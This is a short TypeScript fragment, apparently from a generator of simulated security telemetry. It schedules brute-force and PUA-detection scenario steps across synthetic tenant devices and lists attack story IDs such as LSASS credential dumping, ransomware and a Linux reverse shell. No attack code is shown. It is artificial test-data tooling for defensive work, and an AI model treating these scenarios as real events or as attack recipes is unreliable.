      day: d.brute,
      needsSession: false,
      run: bruteForce,
    })
  const rng = rngFor(tenant.seed, 'pua')
  const userDevices = tenant.devices.filter((x) => x.user && x.index !== facts.fin?.index)
  for (const [ordinal, dev] of userDevices.entries()) {
    if (ordinal % 8 !== 1) continue
    steps.push({
      story: 'pua-detection',
      device: dev,
      day: rng.int(1, tenant.dayCount - 2),
      needsSession: true,
      run: puaDetection,
    })
  }
  return steps
}

export const STORY_IDS = [
  'phishing-powershell-cradle',
  'lsass-credential-dumping',
  'ransomware',
  'linux-reverse-shell',
  'rdp-brute-force',
  'pua-detection',
] as const
